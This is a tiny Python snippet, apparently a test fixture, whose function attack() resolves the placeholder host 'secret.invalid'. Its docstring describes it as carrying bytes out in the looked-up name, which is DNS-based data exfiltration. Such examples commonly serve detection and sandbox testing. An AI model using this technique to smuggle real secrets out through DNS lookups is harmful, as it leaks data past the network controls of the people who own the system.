"""Carry bytes out in the name that is looked up."""
import socket


def attack():
    return socket.gethostbyname("secret.invalid")
